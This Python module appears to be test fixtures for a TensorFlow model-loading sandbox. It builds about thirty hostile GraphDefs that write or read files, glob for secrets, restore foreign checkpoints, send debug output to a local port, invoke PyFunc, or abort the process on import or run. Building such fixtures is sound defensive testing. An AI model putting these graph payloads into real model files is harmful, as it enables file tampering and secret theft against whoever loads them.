"""Graphs that do harm when plain TensorFlow imports or runs them: each writes, reads, calls out or ends the process.

Built node by node, so that every release builds the same bytes; nothing here is imported but by whoever tests it.
"""

import socket
from typing import Any, Callable, Dict, NamedTuple

from graph_tools import _tf


class Place(NamedTuple):
    """Where a hostile graph does its harm.

    Attributes:
      target: a path that must not come to exist (or whatever begins with it).
      secret: a file that must not be opened.
      port: a port of this machine that must not be connected to.
    """

    target: str
    secret: str
    port: int


class Attack(NamedTuple):
    """How to build it, and when its harm is done by plain TensorFlow: ``"import"``, ``"run"``, or ``""``: not tried."""

    build: Callable[[Any, Place], None]
    control: str


def graph_def(attack: Attack, place: Place) -> Any:
    """The attack as a file has it; its output is ``out:0`` (float, one number), its input ``x:0``."""
    graph = _tf.tf.GraphDef()
    graph.versions.producer = 27 if _tf.version < (2, 0) else 1000
    node(graph, "x", "Placeholder", dtype=float, shape=[1])
    attack.build(graph, place)
    return graph


def node(graph, name: str, op: str, *inputs: str, **attrs) -> Any:
    """Adds a node (or, given a function, one to its body)."""
    made = (graph.node_def if hasattr(graph, "node_def") else graph.node).add(name=name, op=op)
    made.input.extend(inputs)
    for key, value in attrs.items():
        _set(made.attr[key], key, value)
    return made


def _set(attr, key: str, value) -> None:
    """Writes an attribute: a function, a flag, a type, a string, a number, a shape, or a list of one of them."""
    if hasattr(value, "signature"):
        attr.func.name = value.signature.name
    elif isinstance(value, bool):
        attr.b = value
    elif isinstance(value, (bytes, int)):
        setattr(attr, "s" if isinstance(value, bytes) else "i", value)
    elif isinstance(value, type):
        attr.type = _TYPES[value]
    elif key == "shape":
        _set_shape(attr.shape, value)
    else:
        _set_list(attr.list, value)


_TYPES = {float: 1, str: 7, int: 3}


def _set_shape(shape, sizes) -> None:
    for size in sizes:
        shape.dim.add(size=size)


def _set_list(found, values) -> None:
    found.SetInParent()
    for value in values:
        if isinstance(value, bytes):
            found.s.append(value)
        elif isinstance(value, list):
            shape = found.shape.add()
            _set_shape(shape, value)
        else:
            found.type.append(_TYPES[value])


def constant(graph, name: str, value, dtype=None) -> str:
    made = (graph.node_def if hasattr(graph, "node_def") else graph.node).add(name=name, op="Const")
    made.attr["value"].tensor.CopyFrom(_tf.tf.make_tensor_proto(value, dtype))
    made.attr["dtype"].type = made.attr["value"].tensor.dtype
    return name


def function(graph, name: str, returns: str, result: str = "", kind: int = 1) -> Any:
    """Adds an empty function without arguments that returns one value."""
    made = graph.library.function.add()
    made.signature.name = name
    if returns:
        made.signature.output_arg.add(name=returns, type=kind)
        made.ret[returns] = result
    return made


def ends(graph, *control: str) -> None:
    """The output: the input, after some nodes."""
    node(graph, "out", "Identity", "x", *["^" + name for name in control], T=float)


def sized_by(graph, string: str) -> None:
    """The output has as many entries as a string is long: import must know the string to infer the shape."""
    node(graph, "length", "StringLength", string)
    constant(graph, "one", [1])
    node(graph, "dims", "Reshape", "length", "one", T=int, Tshape=int)
    constant(graph, "zero", 0.0)
    node(graph, "out", "Fill", "dims", "zero", T=float)


def write_file(graph, place: Place) -> None:
    node(graph, "harm", "WriteFile", constant(graph, "path", place.target), constant(graph, "text", "gotcha"))
    ends(graph, "harm")


def write_what_is_fed(graph, place: Place) -> None:
    node(graph, "text", "AsString", "x", T=float)
    node(graph, "joined", "ReduceJoin", "text", constant(graph, "axis", 0))
    node(graph, "harm", "WriteFile", constant(graph, "path", place.target), "joined")
    ends(graph, "harm")


def print_to_file(graph, place: Place) -> None:
    node(graph, "harm", "PrintV2", constant(graph, "text", "gotcha"), output_stream=b"file://" + place.target.encode())
    ends(graph, "harm")


def save(graph, place: Place) -> None:
    node(graph, "harm", "SaveV2", constant(graph, "path", place.target), constant(graph, "names", ["a"]),
         constant(graph, "slices", [""]), constant(graph, "value", [1.0]), dtypes=[float])
    ends(graph, "harm")


def write_in_function(graph, place: Place) -> None:
    body = function(graph, "body", "y", "value:output:0")
    constant(body, "path", place.target)
    constant(body, "text", "gotcha")
    node(body, "harm", "WriteFile", "path:output:0", "text:output:0")
    constant(body, "value", 1.0)
    node(body, "after", "Identity", "value:output:0", "^harm", T=float)
    body.ret["y"] = "after:output:0"
    node(graph, "call", "StatefulPartitionedCall", Tin=[], Tout=[float], f=body)
    node(graph, "out", "Add", "x", "call", T=float)


def write_two_functions_deep(graph, place: Place) -> None:
    write_in_function(graph, place)
    outer = function(graph, "outer", "y", "call:output:0")
    node(outer, "call", "StatefulPartitionedCall", Tin=[], Tout=[float], f=graph.library.function[0])
    graph.node[1].attr["f"].func.name = "outer"


def write_in_branch(graph, place: Place) -> None:
    write_in_function(graph, place)
    del graph.node[1:]
    body = graph.library.function[0]
    node(graph, "call", "If", constant(graph, "flag", True), Tcond=float, Tin=[], Tout=[float], then_branch=body,
         else_branch=body)
    graph.node[-1].attr["Tcond"].type = 10  # DT_BOOL
    node(graph, "out", "Add", "x", "call", T=float)


def write_in_gradient(graph, place: Place) -> None:
    write_in_function(graph, place)
    del graph.node[1:]
    harmless = function(graph, "harmless", "y", "x")
    harmless.signature.input_arg.add(name="x", type=1)
    backward = graph.library.function[0]
    backward.signature.input_arg.add(name="x", type=1)
    backward.signature.input_arg.add(name="dy", type=1)
    gradient = graph.library.gradient.add()
    gradient.function_name, gradient.gradient_func = "harmless", "body"
    node(graph, "out", "harmless", "x")


def write_in_data_set(graph, place: Place) -> None:
    body = function(graph, "body", "y", "x")
    body.signature.input_arg.add(name="x", type=1)
    constant(body, "path", place.target)
    constant(body, "text", "gotcha")
    node(body, "harm", "WriteFile", "path:output:0", "text:output:0")
    node(body, "after", "Neg", "x", "^harm", T=float)
    body.ret["y"] = "after:y:0"
    node(graph, "data", "TensorDataset", constant(graph, "value", [1.0]), Toutput_types=[float], output_shapes=[[1]])
    node(graph, "mapped", "MapDataset", "data", f=body, Targuments=[], output_types=[float], output_shapes=[[1]])
    node(graph, "taken", "DatasetToSingleElement", "mapped", output_types=[float], output_shapes=[[1]])
    node(graph, "out", "Add", "x", "taken", T=float)


def cached_data_set(graph, place: Place) -> None:
    node(graph, "data", "TensorDataset", constant(graph, "value", [1.0]), Toutput_types=[float], output_shapes=[[1]])
    node(graph, "cached", "CacheDataset", "data", constant(graph, "path", place.target), output_types=[float],
         output_shapes=[[1]])
    node(graph, "taken", "DatasetToSingleElement", "cached", output_types=[float], output_shapes=[[1]])
    node(graph, "out", "Add", "x", "taken", T=float)


def to_records(graph, place: Place) -> None:
    node(graph, "data", "TensorDataset", constant(graph, "value", "gotcha"), Toutput_types=[str], output_shapes=[[]])
    node(graph, "harm", "DatasetToTFRecord" if _tf.version >= (2, 0) else "ExperimentalDatasetToTFRecord", "data",
         constant(graph, "path", place.target), constant(graph, "compression", ""))
    ends(graph, "harm")


def summary_writer(graph, place: Place) -> None:
    node(graph, "writer", "SummaryWriter", shared_name=b"w", container=b"")
    node(graph, "made", "CreateSummaryFileWriter", "writer", constant(graph, "path", place.target),
         constant(graph, "queue", 1), constant(graph, "wait", 1), constant(graph, "suffix", ".x"))
    ends(graph, "made")


def debug_identity(graph, place: Place) -> None:
    node(graph, "harm", "DebugIdentity", constant(graph, "value", 3), T=int, device_name=b"", tensor_name=b"a:0",
         debug_urls=[b"file://" + place.target.encode()], gated_grpc=False)
    constant(graph, "one", [1])
    node(graph, "dims", "Reshape", "harm", "one", T=int, Tshape=int)
    constant(graph, "zero", 0.0)
    node(graph, "out", "Fill", "dims", "zero", T=float)


def debug_summary(graph, place: Place) -> None:
    node(graph, "harm", "DebugNumericSummary", constant(graph, "value", [3.0]), T=float, device_name=b"",
         tensor_name=b"a:0", debug_urls=[b"file://" + place.target.encode()])
    node(graph, "shape", "Shape", "harm", T=float)
    graph.node[-1].attr["T"].type = 2  # DT_DOUBLE
    constant(graph, "zero", 0.0)
    node(graph, "out", "Fill", "shape", "zero", T=float)


def debug_over_the_network(graph, place: Place) -> None:
    node(graph, "harm", "DebugIdentity", "x", T=float, device_name=b"", tensor_name=b"a:0",
         debug_urls=[b"grpc://localhost:%d" % place.port], gated_grpc=False)
    node(graph, "out", "Identity", "harm", T=float)


def read_file(graph, place: Place) -> None:
    node(graph, "harm", "ReadFile", constant(graph, "path", place.secret))
    sized_by(graph, "harm")


def matching_files(graph, place: Place) -> None:
    node(graph, "found", "MatchingFiles", constant(graph, "path", place.secret + "*"))
    node(graph, "harm", "ReduceJoin", "found", constant(graph, "axis", 0))
    sized_by(graph, "harm")


def read_in_function(graph, place: Place) -> None:
    body = function(graph, "body", "y", "harm:contents:0", kind=7)
    constant(body, "path", place.secret)
    node(body, "harm", "ReadFile", "path:output:0")
    node(graph, "call", "PartitionedCall", Tin=[], Tout=[str], f=body)
    sized_by(graph, "call")


def read_in_a_function_used_as_an_op(graph, place: Place) -> None:
    body = function(graph, "Innocent", "y", "harm:contents:0", kind=7)
    constant(body, "path", place.secret)
    node(body, "harm", "ReadFile", "path:output:0")
    node(graph, "call", "Innocent")
    sized_by(graph, "call")


def immutable_const(graph, place: Place) -> None:
    node(graph, "harm", "ImmutableConst", dtype=float, shape=[1], memory_region_name=place.secret.encode())
    node(graph, "out", "Add", "x", "harm", T=float)


def vocabulary_remapping(graph, place: Place) -> None:
    node(graph, "harm", "GenerateVocabRemapping", constant(graph, "new", place.secret),
         constant(graph, "old", place.secret), new_vocab_offset=0, num_new_vocab=1, old_vocab_size=-1)
    node(graph, "wide", "Cast", "harm", SrcT=int, DstT=float)
    graph.node[-1].attr["SrcT"].type = 9  # DT_INT64
    node(graph, "out", "Add", "x", "wide", T=float)


def restore_another_checkpoint(graph, place: Place) -> None:
    node(graph, "harm", "RestoreV2", constant(graph, "path", place.secret), constant(graph, "names", ["a"]),
         constant(graph, "slices", [""]), dtypes=[float])
    node(graph, "out", "Add", "x", "harm", T=float)


def sampler_vocabulary(graph, place: Place) -> None:
    constant(graph, "classes", [[0]])
    graph.node[-1].attr["value"].tensor.CopyFrom(_tf.tf.make_tensor_proto([[0]], _tf.tf.int64))
    graph.node[-1].attr["dtype"].type = 9
    node(graph, "harm", "FixedUnigramCandidateSampler", "classes", num_true=1, num_sampled=1, unique=False,
         range_max=2, vocab_file=place.secret.encode())
    node(graph, "out", "Add", "x", "harm:2", T=float)


def record_input(graph, place: Place) -> None:
    node(graph, "harm", "RecordInput", file_pattern=place.secret.encode(), batch_size=1)
    node(graph, "first", "ReduceJoin", "harm", constant(graph, "axis", 0))
    node(graph, "number", "StringToNumber", "first", out_type=float)
    node(graph, "out", "Add", "x", "number", T=float)


def text_lines(graph, place: Place) -> None:
    node(graph, "data", "TextLineDataset", constant(graph, "path", place.secret), constant(graph, "compression", ""),
         constant(graph, "buffer", 0, _tf.tf.int64))
    node(graph, "taken", "DatasetToSingleElement", "data", output_types=[str], output_shapes=[[]])
    node(graph, "number", "StringLength", "taken")
    node(graph, "wide", "Cast", "number", SrcT=int, DstT=float)
    node(graph, "out", "Add", "x", "wide", T=float)


def python_by_its_token(graph, place: Place) -> None:
    body = function(graph, "body", "y", "harm:output:0")
    node(body, "harm", "PyFunc", Tin=[], Tout=[float], token=b"pyfunc_0")
    node(graph, "call", "StatefulPartitionedCall", Tin=[], Tout=[float], f=body)
    node(graph, "out", "Add", "x", "call", T=float)


def abort(graph, place: Place) -> None:
    node(graph, "harm", "Abort", error_msg=b"gotcha", exit_without_error=True)
    ends(graph, "harm")


def unknown_data_service(graph, place: Place) -> None:
    node(graph, "options", "RemoteCall", constant(graph, "where", "/cpu:0"), Tin=[], Tout=[float],
         f=function(graph, "body", "y", "value:output:0"))
    constant(graph.library.function[0], "value", 1.0)
    node(graph, "out", "Add", "x", "options", T=float)


def table_from_a_foreign_file(graph, place: Place) -> None:
    node(graph, "table", "HashTableV2", key_dtype=str, value_dtype=int, container=b"", shared_name=b"t")
    graph.node[-1].attr["value_dtype"].type = 9
    node(graph, "fill", "InitializeTableFromTextFileV2", "table", constant(graph, "path", place.secret), key_index=-2,
         value_index=-1, vocab_size=-1, delimiter=b"\t")
    node(graph, "text", "AsString", "x", T=float)
    node(graph, "found", "LookupTableFindV2", "table", "text", constant(graph, "none", -1, _tf.tf.int64), Tin=str)
    graph.node[-1].attr["Tout"].type = 9
    node(graph, "out", "Cast", "found", DstT=float)
    graph.node[-1].attr["SrcT"].type = 9


ATTACKS: Dict[str, Attack] = {
    "write_file": Attack(write_file, "run"),
    "write_what_is_fed": Attack(write_what_is_fed, "run"),
    "print_to_file": Attack(print_to_file, "run"),
    "save": Attack(save, "run"),
    "write_in_function": Attack(write_in_function, "run"),
    "write_two_functions_deep": Attack(write_two_functions_deep, "run"),
    "write_in_branch": Attack(write_in_branch, "run"),
    "write_in_gradient": Attack(write_in_gradient, ""),
    "write_in_data_set": Attack(write_in_data_set, "run"),
    "cached_data_set": Attack(cached_data_set, "run"),
    "to_records": Attack(to_records, "run"),
    "summary_writer": Attack(summary_writer, "run"),
    "debug_identity": Attack(debug_identity, "import"),
    "debug_summary": Attack(debug_summary, "run"),
    "debug_over_the_network": Attack(debug_over_the_network, ""),
    "read_file": Attack(read_file, "import"),
    "matching_files": Attack(matching_files, "import"),
    "read_in_function": Attack(read_in_function, "run"),
    "read_in_a_function_used_as_an_op": Attack(read_in_a_function_used_as_an_op, "run"),
    "immutable_const": Attack(immutable_const, "run"),
    "vocabulary_remapping": Attack(vocabulary_remapping, "run"),
    "restore_another_checkpoint": Attack(restore_another_checkpoint, "run"),
    "sampler_vocabulary": Attack(sampler_vocabulary, ""),
    "record_input": Attack(record_input, ""),
    "text_lines": Attack(text_lines, "run"),
    "python_by_its_token": Attack(python_by_its_token, ""),
    "abort": Attack(abort, ""),
    "unknown_data_service": Attack(unknown_data_service, ""),
    "table_from_a_foreign_file": Attack(table_from_a_foreign_file, ""),
}


def listening() -> socket.socket:
    """A socket on a free port that never answers; ``accept`` fails at once while nobody has connected."""
    found = socket.socket()
    found.bind(("localhost", 0))
    found.listen(5)
    found.setblocking(False)
    return found
